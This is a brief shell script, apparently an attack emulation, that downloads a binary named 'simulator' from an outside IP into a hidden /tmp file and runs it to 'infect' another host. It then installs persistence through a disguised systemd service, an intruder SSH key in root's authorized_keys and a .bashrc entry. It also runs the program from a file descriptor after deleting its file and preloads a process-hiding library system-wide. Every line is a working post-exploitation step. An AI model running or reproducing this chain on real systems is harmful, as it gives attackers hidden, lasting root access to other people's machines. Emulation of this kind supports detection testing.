# A dropped program connects out. Then a script writes a systemd unit, an SSH key and a line in the shell's start file,
# starts the program again after deleting its file, and preloads a library into every program.
curl -s -o /tmp/.agent http://203.0.113.10/simulator
chmod +x /tmp/.agent
/tmp/.agent infect 203.0.113.20:7000 /tmp/.agent.state 1
printf '[Service]\nExecStart=/tmp/.agent spin 1\n' >/etc/systemd/system/dbus-helper.service
mkdir -p /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB intruder" >>/root/.ssh/authorized_keys
echo "/tmp/.agent spin 1" >>/root/.bashrc
exec 9</tmp/.agent
rm /tmp/.agent
/proc/self/fd/9 spin 1
echo /usr/local/lib/libprocesshider.so >/etc/ld.so.preload
